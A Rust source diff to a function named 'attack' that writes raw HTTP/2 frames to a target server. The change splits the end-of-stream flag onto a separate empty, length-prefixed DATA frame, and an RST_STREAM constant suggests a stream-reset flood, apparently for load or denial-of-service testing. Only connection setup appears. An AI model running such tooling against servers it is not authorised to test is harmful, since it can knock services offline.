@@ -9,10 +9,11 @@ use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
 
 use super::field::Field;
-use super::raw::{PREFACE, broken, tcp};
+use super::raw::{PREFACE, broken, prefixed, tcp};
 use crate::error::Error;
 
 /// Kinds and flags of HTTP/2 frames, and an error code.
+const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const END_STREAM: u8 = 1;
@@ -27,9 +28,10 @@ pub(super) async fn attack(field: &Field) -> Result<(), Error> {
     let (mut read, mut write) = tcp(field.target()).await?.into_split();
     let call = call(field);
     // One call is let be, so that the server can know whose connection it is.
-    let first = frame(HEADERS, END_HEADERS | END_STREAM, 1, &call);
+    let first = frame(HEADERS, END_HEADERS, 1, &call);
+    let empty = frame(DATA, END_STREAM, 1, &prefixed(&[]));
     let begun = async {
-        write.write_all(&[PREFACE, &first].concat()).await?;
+        write.write_all(&[PREFACE, &first, &empty].concat()).await?;
         answered(&mut read).await
     };
     begun.await.map_err(|error| broken(field.target(), error))?;
